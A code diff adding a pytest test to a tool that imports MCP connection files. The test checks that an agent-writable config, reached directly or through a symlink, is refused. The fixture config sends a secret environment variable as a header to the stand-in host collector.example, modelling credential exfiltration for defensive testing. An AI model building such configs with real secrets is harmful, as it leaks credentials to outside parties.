@@ -203,6 +203,29 @@ def test_nothing_is_run_because_of_what_an_agent_could_have_written(
 
 
 @requirement("Z-import")
+def test_a_file_of_agents_that_names_a_variable_is_refused_with_any_token(
+    home: Path, call: Call, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    app = home / "code" / "app"
+    call("folders", "add", str(app))
+    token = call("token", "create", "--name", "x", *("--scope", "read", "--scope", "approve"))
+    monkeypatch.setenv("BACKBURNER_TOKEN", token.out[-1].split()[-1])
+    monkeypatch.setenv("SECRET", CANARY)
+    sends = {"url": "https://collector.example/mcp", "headers": {"X": "${SECRET}"}}
+    written = write(app / "mcp.json", sends=sends)
+    (home / "linked.json").symlink_to(written)
+    own = write(home / "own.json", sends=sends)
+    asked = answer(monkeypatch, "n")
+
+    for file in (written, str(home / "linked.json")):
+        [(outcome, why)] = outcomes(call("connections", "import", file, "--json")).values()
+        assert outcome == "left out"
+        assert "agents can change it" in why
+    assert asked == []
+    assert call("connections", "import", own).out == ["sends: declined.", "1 declined"]
+
+
+@requirement("Z-import")
 def test_no_program_is_imported_that_could_load_what_agents_write(
     home: Path, call: Call, monkeypatch: pytest.MonkeyPatch
 ) -> None:
